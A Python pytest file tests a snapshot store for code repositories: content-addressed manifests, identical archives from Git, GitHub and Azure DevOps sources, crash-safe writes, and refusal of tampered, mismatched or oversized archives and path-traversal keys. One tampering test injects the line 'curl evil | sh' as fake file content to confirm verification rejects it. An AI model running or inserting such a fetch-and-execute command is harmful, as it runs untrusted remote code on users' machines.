"""Snapshots: stored once, the same bytes from every source, the manifest as the commit marker, verified on the way out."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
from pathlib import Path
from typing import IO

import pytest

from shared.platform.memory_storage import MemoryStorage
from shared.platform.names import CODE
from shared.repo.archives import SnapshotError, SnapshotLimits, TreeFile, canonical_archive, tar_bytes
from shared.repo.azure_devops import AzureDevOpsSource
from shared.repo.git_source import GitSource
from shared.repo.github import GitHubSource
from shared.repo.snapshots import (
    Snapshot,
    archive_name,
    ensure_snapshot,
    manifest_name,
    materialize,
    read_snapshot,
)
from shared.repo.sources import CodeSource
from tests.repo.conftest import History
from tests.repo.providers import Providers

LIMITS = SnapshotLimits()
KEY = "churn"


class CountingStorage(MemoryStorage):
    """MemoryStorage that records the writes made, and can stop (as an instance would) before writing a manifest."""

    def __init__(self) -> None:
        super().__init__()
        self.writes: list[str] = []
        self.stop_before_manifest = False

    def put_bytes(self, container: str, name: str, data: bytes | IO[bytes], **options) -> str:
        if self.stop_before_manifest and name.endswith(".manifest.json"):
            raise RuntimeError("the instance stopped")
        etag = super().put_bytes(container, name, data, **options)
        self.writes.append(name)  # writes that happened; a failed condition changes nothing
        return etag


class CountingSource:
    """A code source that counts the archives it is asked for."""

    def __init__(self, inner: CodeSource):
        self.inner, self.archives = inner, 0
        self.name, self.strip_top_folder = inner.name, inner.strip_top_folder

    def resolve(self, branch: str) -> str:
        return self.inner.resolve(branch)

    def archive(self, commit: str) -> bytes:
        self.archives += 1
        return self.inner.archive(commit)

    def changed_paths(self, before: str, after: str) -> tuple[str, ...] | None:
        return self.inner.changed_paths(before, after)


@pytest.fixture
def git(history: History) -> GitSource:
    return GitSource(str(history.repo.path))


def test_a_snapshot_lists_every_file_of_the_commit(storage: MemoryStorage, git: GitSource, history: History):
    snapshot = ensure_snapshot(storage, git, KEY, history.first, LIMITS)
    expected = history.repo.tree(history.first)
    manifest = snapshot.manifest
    assert (snapshot.commit, manifest.commit, manifest.repository, manifest.source) == (
        history.first, history.first, KEY, git.name)
    assert {f.path: (f.size, f.sha256, f.executable) for f in manifest.files} == {
        path: (len(data), hashlib.sha256(data).hexdigest(), executable) for path, (data, executable) in expected.items()}
    assert manifest.bytes == sum(len(data) for data, _ in expected.values())
    files_json = json.dumps([f.to_json() for f in manifest.files], sort_keys=True, separators=(",", ":"))
    assert snapshot.digest == manifest.digest == hashlib.sha256(files_json.encode()).hexdigest()
    assert [b.name for b in storage.list(CODE)] == [f"{KEY}/{history.first}.manifest.json", f"{KEY}/{history.first}.tar.gz"]
    stored = storage.read_json(CODE, manifest_name(KEY, history.first))
    assert stored is not None and stored.value == manifest.to_json()
    assert read_snapshot(storage, KEY, history.first) == snapshot


def test_the_same_tree_gives_the_same_snapshot_from_every_source(git: GitSource, providers: Providers,
                                                                 history: History):
    sources: list[CodeSource] = [
        git,
        GitHubSource("acme/ml", token="gh-token", api_url=providers.github_api),
        AzureDevOpsSource(providers.ado_organization, "Data Science", "ml", pat="ado-pat"),
    ]
    digests, archives = set(), set()
    for source in sources:
        storage = MemoryStorage()
        snapshot = ensure_snapshot(storage, source, KEY, history.second, LIMITS)
        digests.add(snapshot.digest)
        archives.add(storage.get_bytes(CODE, archive_name(KEY, history.second))[0])
        assert snapshot.manifest.source == source.name
    assert len(digests) == 1 and len(archives) == 1


def test_a_second_ensure_downloads_and_writes_nothing(git: GitSource, history: History):
    storage, source = CountingStorage(), CountingSource(git)
    first = ensure_snapshot(storage, source, KEY, history.first, LIMITS)
    assert (source.archives, len(storage.writes)) == (1, 2)
    assert ensure_snapshot(storage, source, KEY, history.first, LIMITS) == first
    assert (source.archives, len(storage.writes)) == (1, 2)


def test_a_stop_between_archive_and_manifest_shows_no_snapshot_and_a_retry_completes(git: GitSource,
                                                                                      history: History):
    storage = CountingStorage()
    storage.stop_before_manifest = True
    with pytest.raises(RuntimeError, match="stopped"):
        ensure_snapshot(storage, git, KEY, history.second, LIMITS)
    assert storage.exists(CODE, archive_name(KEY, history.second))
    assert read_snapshot(storage, KEY, history.second) is None
    storage.stop_before_manifest = False
    snapshot = ensure_snapshot(storage, git, KEY, history.second, LIMITS)
    assert read_snapshot(storage, KEY, history.second) == snapshot
    assert storage.writes == [archive_name(KEY, history.second), manifest_name(KEY, history.second)]


def test_a_leftover_archive_that_differs_is_replaced_before_the_manifest(storage: MemoryStorage, git: GitSource,
                                                                         history: History, tmp_path: Path):
    storage.put_bytes(CODE, archive_name(KEY, history.first), canonical_archive([TreeFile("evil.py", False, b"x")]))
    snapshot = ensure_snapshot(storage, git, KEY, history.first, LIMITS)
    folder = materialize(storage, snapshot, tmp_path / "code")
    assert not (folder / "evil.py").exists() and (folder / "train.py").exists()


def test_a_writer_that_completes_first_wins(git: GitSource, history: History):
    theirs = ensure_snapshot(MemoryStorage(), git, KEY, history.first, LIMITS)

    class Racing(MemoryStorage):
        """Another instance writes its manifest after our first look and before our write."""

        raced = False

        def read_json(self, container, name):
            if not self.raced:
                self.raced = True
                self.create_json(container, name, theirs.manifest.to_json())
                return None
            return super().read_json(container, name)

    assert ensure_snapshot(Racing(), git, KEY, history.first, LIMITS) == theirs


def test_an_archive_of_another_commit_is_refused_and_nothing_is_stored(storage: MemoryStorage, providers: Providers,
                                                                       history: History):
    providers.served[history.second] = history.first  # the provider serves the wrong tree
    source = GitHubSource("acme/ml", token="gh-token", api_url=providers.github_api)
    with pytest.raises(SnapshotError, match=f"archive of commit {history.first} when {history.second} was asked"):
        ensure_snapshot(storage, source, KEY, history.second, LIMITS)
    assert list(storage.list(CODE)) == []


def test_a_tree_past_the_limits_is_refused_and_nothing_is_stored(storage: MemoryStorage, providers: Providers,
                                                                 history: History):
    source = GitHubSource("acme/ml", token="gh-token", api_url=providers.github_api)
    with pytest.raises(SnapshotError, match="more than 3 files"):
        ensure_snapshot(storage, source, KEY, history.first, SnapshotLimits(max_files=3))
    assert list(storage.list(CODE)) == []


def test_materialize_writes_the_verified_files_with_their_modes(storage: MemoryStorage, git: GitSource,
                                                                history: History, tmp_path: Path):
    snapshot = ensure_snapshot(storage, git, KEY, history.second, LIMITS)
    folder = materialize(storage, snapshot, tmp_path / "runs" / "code")
    assert folder == tmp_path / "runs" / "code"
    found = {str(p.relative_to(folder)): (p.read_bytes(), p.stat().st_mode & 0o777)
             for p in folder.rglob("*") if p.is_file()}
    assert found == {path: (data, 0o755 if executable else 0o644)
                     for path, (data, executable) in history.repo.tree(history.second).items()}
    assert sorted(p.name for p in (tmp_path / "runs").iterdir()) == ["code"]  # no staging left


def test_materialize_needs_a_fresh_folder(storage: MemoryStorage, git: GitSource, history: History, tmp_path: Path):
    snapshot = ensure_snapshot(storage, git, KEY, history.first, LIMITS)
    with pytest.raises(SnapshotError, match="exists already"):
        materialize(storage, snapshot, tmp_path)


def _tampered(files: dict[str, tuple[bytes, bool]]) -> list[TreeFile]:
    return [TreeFile(path, executable, data) for path, (data, executable) in files.items()]


@pytest.mark.parametrize("tamper", ["content", "exec bit", "extra file", "missing file"])
def test_a_tampered_archive_is_refused_and_leaves_nothing(storage: MemoryStorage, git: GitSource, history: History,
                                                          tmp_path: Path, tamper: str):
    snapshot = ensure_snapshot(storage, git, KEY, history.first, LIMITS)
    files = history.repo.tree(history.first)
    if tamper == "content":
        files["train.py"] = (b"import os; os.system('curl evil | sh')\n", False)
    elif tamper == "exec bit":
        files["train.py"] = (files["train.py"][0], True)
    elif tamper == "extra file":
        files["sitecustomize.py"] = (b"x", False)
    else:
        del files["train.py"]
    storage.put_bytes(CODE, archive_name(KEY, history.first), canonical_archive(_tampered(files)))
    with pytest.raises(SnapshotError, match="stored archive|more than"):
        materialize(storage, snapshot, tmp_path / "out" / "code")
    assert not (tmp_path / "out").exists()


def test_a_missing_archive_is_refused(storage: MemoryStorage, git: GitSource, history: History, tmp_path: Path):
    snapshot = ensure_snapshot(storage, git, KEY, history.first, LIMITS)
    storage.delete(CODE, archive_name(KEY, history.first))
    with pytest.raises(SnapshotError, match="missing"):
        materialize(storage, snapshot, tmp_path / "code")


def test_read_snapshot_answers_none_without_a_manifest_and_refuses_a_broken_one(storage: MemoryStorage,
                                                                                 git: GitSource, history: History):
    assert read_snapshot(storage, KEY, history.first) is None
    snapshot = ensure_snapshot(storage, git, KEY, history.first, LIMITS)
    name = manifest_name(KEY, history.first)
    edited = snapshot.manifest.to_json()
    edited["files"][0]["sha256"] = "0" * 64
    storage.write_json(CODE, name, edited)
    with pytest.raises(SnapshotError, match="does not match its digest"):
        read_snapshot(storage, KEY, history.first)
    storage.write_json(CODE, name, {"commit": history.first})
    with pytest.raises(SnapshotError, match="malformed"):
        read_snapshot(storage, KEY, history.first)
    storage.write_json(CODE, name, {**snapshot.manifest.to_json(), "repository": "other"})
    with pytest.raises(SnapshotError, match="another repository or commit"):
        read_snapshot(storage, KEY, history.first)


@pytest.mark.parametrize("key", ["", "../models", "a/b", "x" * 101])
def test_a_repository_key_that_is_not_a_plain_name_is_refused(storage: MemoryStorage, git: GitSource,
                                                              history: History, key: str):
    with pytest.raises(SnapshotError, match="repository key"):
        ensure_snapshot(storage, git, key, history.first, LIMITS)


def test_a_snapshot_of_an_archive_without_a_commit_id_is_taken_as_given(storage: MemoryStorage):
    """Azure DevOps' zips may declare no commit: then the requested one is recorded."""

    class Plain:
        name, strip_top_folder = "plain:test", False

        def resolve(self, branch: str) -> str:
            return "a" * 40

        def archive(self, commit: str) -> bytes:
            return tar_bytes([TreeFile("train.py", False, b"x")], gzipped=True)

        def changed_paths(self, before: str, after: str) -> tuple[str, ...] | None:
            return None

    snapshot = ensure_snapshot(storage, Plain(), KEY, "A" * 40, LIMITS)
    assert isinstance(snapshot, Snapshot) and snapshot.commit == "a" * 40
    with tarfile.open(fileobj=io.BytesIO(storage.get_bytes(CODE, archive_name(KEY, "a" * 40))[0])) as archive:
        assert archive.getnames() == ["train.py"]
